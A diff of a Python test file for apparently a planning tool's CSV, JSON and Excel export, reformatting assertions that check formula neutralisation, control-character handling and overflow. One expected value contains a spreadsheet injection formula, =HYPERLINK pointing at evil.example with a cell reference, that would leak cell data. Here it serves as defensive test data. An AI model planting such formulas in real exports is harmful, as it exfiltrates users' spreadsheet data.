@@ -227,7 +227,10 @@ def test_csv_helpers_neutralise_every_formula_start() -> None:
         assert csv_cell(text) == "'" + text
     assert csv_cell("Pupils") == "Pupils"
     written = csv_bytes([{"name": FORMULAS[0], "n": -3, "list": ["=a", "b"]}]).decode("utf-8-sig")
-    assert written.splitlines()[1] == "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",-3,'=a; b"
+    assert (
+        written.splitlines()[1]
+        == '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")",-3,\'=a; b'
+    )
 
 
 def test_table_output_shows_control_characters_instead_of_sending_them(tmp_path: Path) -> None:
@@ -244,9 +247,7 @@ def test_assess_json_is_strict_json(tmp_path: Path) -> None:
     """Costs whose sum overflows: either refused at input, or a total JSON can hold."""
     plan = tmp_path / "plan.json"
     data = json.loads(write_plan(plan).read_text())
-    data["activities"] = [
-        {**data["activities"][0], "id": f"a{n}", "cost": 1e308} for n in range(3)
-    ]
+    data["activities"] = [{**data["activities"][0], "id": f"a{n}", "cost": 1e308} for n in range(3)]
     plan.write_text(json.dumps(data))
     run = run_prevplan("assess", str(plan))
     assert "Traceback" not in run.stderr
@@ -273,8 +274,11 @@ def test_excel_export_of_control_characters(tmp_path: Path) -> None:
     assert run.code == 0, run.stderr
     book = load_workbook(target, read_only=True)
     values = {
-        str(cell) for sheet in book.worksheets for row in sheet.iter_rows(values_only=True)
-        for cell in row if cell
+        str(cell)
+        for sheet in book.worksheets
+        for row in sheet.iter_rows(values_only=True)
+        for cell in row
+        if cell
     }
     assert "Bell\\x07 nul\\x00 esc\\x1b" in values
 
